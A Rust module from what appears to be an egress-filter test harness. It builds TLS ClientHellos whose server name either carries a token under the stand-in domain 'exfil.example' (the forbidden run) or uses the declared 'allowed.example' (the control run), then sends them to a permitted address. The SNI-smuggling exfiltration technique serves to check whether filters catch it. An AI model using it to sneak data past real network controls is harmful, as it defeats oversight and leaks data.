//! How the vectors of TLS talk: always to the declared address, in the forbidden run under a
//! stranger's name, in the control run under the declared one.

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpStream},
    os::fd::OwnedFd,
    thread,
    time::Duration,
};

use libc::{AF_INET, SOCK_STREAM};

use super::{Attempt, Evidence, Job, Stop, Vector, sys};
use crate::hello::build::{Hello, KEY_SHARE};

/// The port on which names are looked at.
pub(super) const PORT: u16 = 443;
/// The declared name.
pub(super) const DECLARED: &str = "allowed.example";
/// Between two writes that must not become one segment.
pub(super) const GAP: Duration = Duration::from_millis(30);
/// What a refused socket may still send is sent within this time.
const LINGER: Duration = Duration::from_millis(300);

/// What leaves is enough: the server has the name then.
pub(super) const fn vector(
    name: &'static str,
    about: &'static str,
    run: fn(&Job) -> Attempt,
) -> Vector {
    Vector::new(name, about, run).proven_by(Evidence::Anywhere)
}

/// The stranger's name, with the token in it; in the control run the declared one.
pub(super) fn name(job: &Job) -> String {
    if job.is_control() {
        DECLARED.to_owned()
    } else {
        format!("{}.exfil.example", job.token)
    }
}

/// A right hello with [`name`]; the token is in it in either run.
pub(super) fn hello(job: &Job) -> Hello {
    Hello::named(name(job)).carrying(&job.token)
}

pub(super) fn place(job: &Job) -> SocketAddr {
    SocketAddr::from((*job.permitted.ip(), PORT))
}

pub(super) fn sys_open(job: &Job) -> Result<OwnedFd, Stop> {
    let socket = sys::socket(AF_INET, SOCK_STREAM, 0)?;
    sys::connect(&socket, &sys::address(place(job)))?;
    Ok(socket)
}

pub(super) fn open(job: &Job) -> Result<TcpStream, Stop> {
    sys_open(job).map(TcpStream::from)
}

pub(super) fn open_to(domain: i32, to: SocketAddr, protocol: i32) -> Result<TcpStream, Stop> {
    let socket = sys::socket(domain, SOCK_STREAM, protocol)?;
    sys::connect(&socket, &sys::address(to))?;
    Ok(socket.into())
}

pub(super) fn say(job: &Job, bytes: &[u8]) -> Attempt {
    tell(open(job)?, bytes)
}

pub(super) fn tell(mut stream: TcpStream, bytes: &[u8]) -> Attempt {
    stream.write_all(bytes)?;
    linger(stream)
}

/// Waits for what the other side says, so that everything is through before the socket closes.
pub(super) fn linger(mut stream: TcpStream) -> Attempt {
    let answered = answer(&mut stream);
    thread::sleep(LINGER);
    answered
}

/// The beginning of the server's answer.
pub(super) fn answer(stream: &mut TcpStream) -> Attempt {
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    match stream.read(&mut [0; 4096])? {
        0 => Err(Stop::Refused("the connection ended".to_owned())),
        _ => Ok(()),
    }
}

/// Where the token begins.
pub(super) fn token_place(bytes: &[u8], job: &Job) -> usize {
    let token = job.bytes();
    let found = bytes.windows(token.len()).position(|part| part == token);
    found.unwrap_or_default()
}

/// The same, on a connection that stands.
pub(super) fn ask_for_retry_on(socket: &OwnedFd) -> Attempt {
    let first = Hello::named(DECLARED).instead(KEY_SHARE, &[0, 0]);
    sys::send(socket, &first.record(), 0, &[])?;
    sys::receive(socket)?;
    Ok(())
}
